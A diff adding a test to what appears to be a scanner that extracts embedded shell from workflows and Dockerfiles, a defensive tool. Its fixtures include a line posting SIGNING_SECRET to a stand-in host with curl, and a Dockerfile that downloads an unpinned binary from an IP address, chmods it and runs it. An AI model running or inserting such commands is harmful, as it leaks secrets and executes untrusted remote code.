@@ -87,3 +87,21 @@ def test_workflow_env_secrets_are_bound_in_a_line_before_the_step_and_pasted_sec
     assert lines[block_at + 1].strip() == first.strip()  # the added line takes the step's own `run: |` line
     assert line.decode().split("\n")[1].strip() == 'curl -d "${SIGNING_SECRET}" https://x.example'
     assert line_at + 2 == 12
+
+
+def test_dockerfile_is_one_script_with_unpinned_remote_adds_read_as_downloads():
+    # files persist across instructions: an ADDed file chmod-ed in a later RUN and started by CMD is one flow
+    text = ("FROM x\n"
+            "ADD http://192.0.2.1/a /usr/bin/a\n"
+            "ADD --checksum=sha256:00 https://example.org/b /b\n"
+            "ADD https://example.org/pkg/c.tgz /opt/\n"
+            "COPY d /d\n"
+            "RUN chmod +x /usr/bin/a \\\n"
+            "    && true\n"
+            "CMD /usr/bin/a --bg\n")
+    tree = languages.parser("dockerfile").parse(text.encode())
+    got = list(embedded_shell.bodies("dockerfile", None, text, tree))
+    assert got == [(1, b"curl -fsSL -o /usr/bin/a http://192.0.2.1/a\n\n"
+                       b"curl -fsSL -o /opt/c.tgz https://example.org/pkg/c.tgz\n\n"
+                       b"    chmod +x /usr/bin/a \\\n    && true\n"
+                       b"    /usr/bin/a --bg")]
